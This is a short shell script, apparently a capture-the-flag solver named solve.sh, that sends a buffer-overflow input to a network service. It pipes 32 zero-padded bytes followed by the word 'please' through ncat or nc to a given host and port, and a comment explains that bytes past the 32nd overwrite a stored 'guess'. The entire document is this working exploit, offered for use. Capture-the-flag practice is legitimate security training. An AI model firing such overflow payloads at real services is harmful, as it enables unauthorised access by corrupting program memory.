#!/bin/sh
# solve.sh <host> <port>: the 33rd byte and the following ones land behind the guess.
nc=$(command -v ncat || echo nc)
printf '%032dplease' 0 | timeout 10 "$nc" "$1" "$2"
